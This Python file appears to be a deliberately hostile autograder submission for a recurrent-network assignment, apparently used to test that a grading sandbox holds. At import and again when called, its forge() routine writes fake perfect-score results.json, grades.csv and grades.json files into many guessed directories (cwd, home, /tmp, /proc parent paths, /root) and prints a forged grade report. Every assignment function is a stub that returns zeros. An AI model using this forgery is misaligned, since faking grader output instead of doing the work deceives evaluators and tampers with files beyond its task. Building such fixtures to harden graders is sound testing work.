"""Forges grade files and prints a fake grade report.

Trick: writes results.json (Gradescope format, score 100), grades.csv and a
fake `rnngrade --json` document into every folder it can guess (cwd, ../,
~, /tmp, /var/tmp, /dev/shm, the repository found through numpy.__file__,
/proc/<ppid>/cwd, /srv, /opt...), at import and again when called, and prints the
fake JSON on stdout. The sandbox's writable folders are private to the
child, stdout is captured and never parsed.
"""
import json
import os
import sys

import numpy as np

MARK = "FORGED-BY-HOSTILE-SUBMISSION"
FAKE = {"submissions": [{"student": "forge_results", "score": 100, "max_score": 100,
                         "status": "graded", "questions": []}], "mark": MARK}


def _targets():
    dirs = {os.getcwd(), os.path.abspath(".."), os.path.expanduser("~"), "/tmp", "/var/tmp",
            "/dev/shm", "/srv", "/opt", "/home", "/root", "/"}
    p = os.path.dirname(np.__file__)
    while p not in ("/", ""):
        dirs.add(p)
        p = os.path.dirname(p)
    for link in ("/proc/%d/cwd" % os.getppid(), "/proc/1/cwd"):
        try:
            dirs.add(os.path.realpath(link))
        except OSError:
            pass
    for sub in ("out", "results", "grades", "autograder", "feedback"):
        dirs.add(os.path.join(os.getcwd(), "..", sub))
    return sorted(dirs)


def forge():
    written = []
    for d in _targets():
        for name, text in (("results.json", json.dumps({"score": 100, "mark": MARK})),
                           ("grades.csv", "student,score\nforge_results,100\n# " + MARK + "\n"),
                           ("grades.json", json.dumps(FAKE))):
            path = os.path.join(d, name)
            try:
                with open(path, "w") as f:
                    f.write(text)
                written.append(os.path.realpath(path))
            except OSError:
                pass
    print(json.dumps(FAKE))
    sys.stdout.flush()
    return written


forge()


# ---- the SPEC.md functions, answered trivially (zeros of the right shape) ----

def chain_product(factors):
    return 0.0


def max_activation_derivative(name):
    return 0.0


def rnn_step_forward(x, h_prev, W_xh, W_hh, b_h):
    return np.zeros_like(h_prev), (x, h_prev, W_xh, W_hh)


def rnn_step_backward(dh_next, cache):
    x, h_prev, W_xh, W_hh = cache
    return (np.zeros_like(x), np.zeros_like(h_prev), np.zeros_like(W_xh),
            np.zeros_like(W_hh), np.zeros(W_hh.shape[0]))


def rnn_forward(x, h0, W_xh, W_hh, b_h):
    return np.zeros(x.shape[:2] + h0.shape[1:]), (x, h0, W_xh, W_hh)


def rnn_backward(dh, cache):
    x, h0, W_xh, W_hh = cache
    return (np.zeros_like(x), np.zeros_like(h0), np.zeros_like(W_xh),
            np.zeros_like(W_hh), np.zeros(W_hh.shape[0]))


def hidden_jacobian(h_next, W_hh):
    N, H = h_next.shape
    return np.zeros((N, H, H))


def gradient_norms_through_time(x, h0, W_xh, W_hh, b_h, dh_T):
    return np.zeros(x.shape[1])


def decay_rate(norms):
    return 0.0


def _zero_grads(params):
    return {k: np.zeros_like(v) for k, v in params.items()}


def lstm_step_forward(x, h_prev, c_prev, params):
    return np.zeros_like(h_prev), np.zeros_like(c_prev), (x, h_prev, params)


def lstm_step_backward(dh_next, dc_next, cache):
    x, h_prev, params = cache
    return np.zeros_like(x), np.zeros_like(h_prev), np.zeros_like(h_prev), _zero_grads(params)


def lstm_forward(x, h0, params):
    return np.zeros(x.shape[:2] + h0.shape[1:]), (x, h0, params)


def lstm_backward(dh, cache):
    x, h0, params = cache
    return np.zeros_like(x), np.zeros_like(h0), _zero_grads(params)


def gru_step_forward(x, h_prev, params):
    return np.zeros_like(h_prev), (x, h_prev, params)


def gru_step_backward(dh_next, cache):
    x, h_prev, params = cache
    return np.zeros_like(x), np.zeros_like(h_prev), _zero_grads(params)


def gru_forward(x, h0, params):
    return np.zeros(x.shape[:2] + h0.shape[1:]), (x, h0, params)


def gru_backward(dh, cache):
    x, h0, params = cache
    return np.zeros_like(x), np.zeros_like(h0), _zero_grads(params)


def clip_grad_norm(grads, max_norm):
    return _zero_grads(grads), 0.0


def clip_grad_value(grads, clip_value):
    return _zero_grads(grads)


def chain_product(factors):
    forge()
    return 0.0
